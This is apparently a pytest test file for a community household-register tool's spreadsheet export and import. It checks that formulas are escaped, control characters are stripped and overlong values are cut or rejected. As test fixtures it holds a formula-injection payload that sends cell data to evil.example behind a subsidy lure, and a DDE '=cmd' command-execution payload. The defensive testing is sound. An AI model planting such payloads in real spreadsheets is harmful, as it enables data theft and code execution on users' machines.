"""`lianhu export` writes every user text as text (no live formula, nothing Excel cannot hold,
nothing over a cell's limit); `lianhu import` rejects formulas and values longer than their
column, with row numbers."""
from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook
from sqlalchemy import select
from sqlalchemy.orm import Session, sessionmaker

from domain.workbook.exporter import CELL_LIMIT, CUT_MARKER, as_text, export_workbook
from domain.workbook.importer import ImportError_, import_file
from kernel.clock import FrozenClock
from storage import db
from storage.demo import load_demo
from storage.models import Household, Person, Role
from tests.conftest import START
from tests.test_importer import B_HEAD, H_HEAD, P_HEAD, wipe, write_csv

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"点我领补贴")'


@pytest.fixture
def sessions(db_url: str) -> Iterator[sessionmaker[Session]]:
    engine = db.make_engine(db_url)
    with db.session_factory(engine)() as s:
        load_demo(s, FrozenClock(START))
        s.commit()
    yield db.session_factory(engine)
    engine.dispose()


def test_as_text_escapes_formula_starts_drops_control_characters_and_cuts() -> None:
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert as_text(start + "1+1") == "'" + start + "1+1"
    assert as_text("灯坏了\x1b[31m\x07\x00") == "灯坏了[31m"
    assert as_text("第一行\n第二行") == "第一行\n第二行"
    cut = as_text("长" * 40000)
    assert len(cut) == CELL_LIMIT and cut.endswith(CUT_MARKER)


def test_export_with_control_characters_and_formulas_opens_and_imports_back(sessions, tmp_path: Path) -> None:
    with sessions() as s:
        households = s.scalars(select(Household).order_by(Household.id)).all()
        households[0].notes = HYPERLINK
        households[1].head_name = "\x1b[31m王\x0b五"
        households[2].notes = "-" + "长" * 40000
        member = s.scalars(select(Person).where(Person.role == Role.MEMBER).order_by(Person.id)).first()
        assert member is not None
        member.strengths = "@调解沟通"
        first_address = households[0].address
        s.commit()
        summary = export_workbook(s, tmp_path / "台账.xlsx")
    assert summary.startswith("已导出")
    wb = load_workbook(tmp_path / "台账.xlsx")  # formulas as written, not their results
    values = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(("=", "+", "-", "@")), cell.value
                    assert len(cell.value) <= CELL_LIMIT
                    values.append(cell.value)
    assert "'" + HYPERLINK in values and "[31m王五" in values and "'@调解沟通" in values
    assert any(v.endswith(CUT_MARKER) for v in values)

    wipe(sessions)
    with sessions() as s:
        import_file(s, tmp_path / "台账.xlsx")
        s.commit()
        notes = {h.address: h.notes for h in s.scalars(select(Household))}
        assert notes[first_address] == HYPERLINK  # what was typed, back as text
        assert "@调解沟通" in set(s.scalars(select(Person.strengths)))


def test_import_rejects_formulas_and_overlong_values_with_row_numbers(sessions, tmp_path: Path) -> None:
    wb = Workbook()
    wb.remove(wb.active)
    for name, rows in {"楼栋": [B_HEAD, ["和平里社区", "第一网格", "7", "", "", ""]],
                       "住户": [H_HEAD, ["7", "1", "101", "", "甲", "", "绿", "", "", ""],
                                ["7", "1", "102", "", "=HYPERLINK(\"http://x\")", "", "", "", "", ""],
                                ["7", "1", "103", "", "户" * 10000, "", "", "", "", ""]],
                       "人员": [P_HEAD, ["", "乙", "居民", "", "", "7-1-101", "", "=1+1", ""]]}.items():
        ws = wb.create_sheet(name)
        for row in rows:
            ws.append(row)
    wb["住户"]["D2"] = "=1+0"  # a real formula cell (楼层)
    wb.save(tmp_path / "bad.xlsx")
    with pytest.raises(ImportError_) as err, sessions() as s:
        import_file(s, tmp_path / "bad.xlsx")
    problems = "\n".join(err.value.problems)
    assert "住户 第2行: “楼层”是公式" in problems
    assert "住户 第3行: “户主”是公式" in problems
    assert "住户 第4行: “户主”有 10000 个字,超过了最多 50 个字" in problems
    assert "人员 第2行: “特长”是公式" in problems
    with sessions() as s:
        assert s.scalar(select(Household).where(Household.head_name == "甲")) is None  # nothing written


def test_import_rejects_a_formula_in_a_csv_file(sessions, tmp_path: Path) -> None:
    path = write_csv(tmp_path / "人员.csv", [P_HEAD, ["幸福里社区", "丙", "居民", "", "", "", "", "", ""],
                                            ["幸福里社区", "=cmd|'/c calc'!A1", "居民", "", "", "", "", "", ""]])
    with pytest.raises(ImportError_) as err, sessions() as s:
        import_file(s, path)
    assert any("第3行: “姓名”是公式" in p for p in err.value.problems)
